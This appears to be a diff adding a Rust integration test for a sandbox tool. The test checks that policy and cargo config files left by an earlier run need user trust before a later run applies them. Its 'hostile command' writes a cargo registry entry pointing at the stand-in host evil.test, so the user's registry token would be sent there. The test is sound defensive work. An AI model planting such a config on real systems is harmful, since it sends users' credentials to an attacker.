@@ -1,0 +1,103 @@
+//! Yesterday's workspace does not widen today's run (SPEC §3.5, issue 28
+//! item 1): a writable root of an earlier run stays one for trust. Run 1
+//! works in `W` and leaves `W/team.toml` and `W/.cargo/config.toml`; run 2,
+//! started in the user's repository `W/sub`, does not apply them until the
+//! user trusts them, and the refusal says which credential would go to
+//! which host. Root and an ordinary user.
+
+use std::path::PathBuf;
+
+use airlock_tests::repos::{git_available, host, sandboxed, show};
+use airlock_tests::who::Who;
+use airlock_tests::*;
+
+fn base() -> PathBuf {
+    std::env::var_os("AIRLOCK_TEST_DIR")
+        .map(PathBuf::from)
+        .unwrap_or_else(|| PathBuf::from("/var/tmp/airlock-pastroots"))
+}
+
+#[test]
+fn files_an_earlier_run_left_in_a_parent_need_trust() {
+    if !git_available() {
+        eprintln!("skipped: git is not installed");
+        return;
+    }
+    for who in Who::all() {
+        let f = Fixture::new_in(&base());
+        let outside = f.home.join("outside");
+        std::fs::create_dir_all(&outside).unwrap();
+        f.write(
+            "~/.cargo/credentials.toml",
+            "[registries.corp]\ntoken = \"SECRET-CARGO-TOKEN\"\n",
+        );
+        who.prepare(&f);
+        // Run 1, in W: a hostile command leaves configuration behind.
+        let script = format!(
+            "printf '[filesystem]\\nwrite = [\"{o}\"]\\n' > team.toml; mkdir -p .cargo; \
+             printf '[registries.corp]\\nindex = \"sparse+https://evil.test/index/\"\\n' > .cargo/config.toml; echo left",
+            o = outside.display()
+        );
+        let out = sandboxed(&f, who, &["--network", "none"], &script);
+        assert!(out.stdout.contains("left"), "{who:?}: {}", show(&out));
+        // The user's own repository below it.
+        let sub = f.ws.join("sub");
+        std::fs::create_dir_all(&sub).unwrap();
+        if who == Who::Nobody {
+            airlock_tests::who::chown(&sub);
+        }
+        let g = host(&f, who, &sub, "git", &["init", "-q", "."]);
+        assert_eq!(g.code, 0, "{}", show(&g));
+
+        // Run 2, in W/sub, with the policy file run 1 wrote.
+        let run2 = |args: &[&str]| {
+            let mut c = f.command(
+                args,
+                &format!("touch {}/x && echo wrote", outside.display()),
+            );
+            c.current_dir(&sub);
+            run(&mut who.wrap(c))
+        };
+        let out = run2(&["-p", "../team.toml", "--network", "none"]);
+        assert_eq!(out.code, 125, "{who:?}: {}", show(&out));
+        assert!(!outside.join("x").exists(), "{who:?}: {}", show(&out));
+        assert!(
+            out.stderr.contains("untrusted project configuration")
+                && out.stderr.contains("team.toml")
+                && out.stderr.contains("makes writable"),
+            "{who:?}: {}",
+            show(&out)
+        );
+        // The cargo preset: the index an earlier run named would receive
+        // the user's registry token; the refusal says so.
+        let out = run2(&["--preset", "cargo", "--network", "none"]);
+        assert_eq!(out.code, 125, "{who:?}: {}", show(&out));
+        assert!(
+            out.stderr.contains(".cargo/config.toml")
+                && out.stderr.contains("allows host evil.test")
+                && out
+                    .stderr
+                    .contains("credentials.toml (header Authorization) to evil.test"),
+            "{who:?}: {}",
+            show(&out)
+        );
+        assert!(
+            !out.stderr.contains("SECRET-CARGO-TOKEN"),
+            "{who:?}: {}",
+            show(&out)
+        );
+        // Trusted by the user, the policy file applies.
+        let team = f.ws.join("team.toml");
+        let t = host(
+            &f,
+            who,
+            &sub,
+            &airlock_bin().display().to_string(),
+            &["policy", "trust", team.to_str().unwrap()],
+        );
+        assert_eq!(t.code, 0, "{who:?}: {}", show(&t));
+        let out = run2(&["-p", "../team.toml", "--network", "none"]);
+        assert_eq!(out.code, 0, "{who:?}: {}", show(&out));
+        assert!(out.stdout.contains("wrote"), "{who:?}: {}", show(&out));
+    }
+}
